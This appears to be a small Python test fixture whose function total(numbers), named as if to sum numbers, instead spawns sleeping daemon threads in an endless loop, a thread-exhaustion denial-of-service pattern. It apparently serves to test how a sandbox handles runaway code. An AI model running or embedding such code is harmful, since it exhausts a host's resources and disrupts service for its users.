"""Starts threads without end."""
import threading
import time

threading.stack_size(65536)


def total(numbers):
    while True:
        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
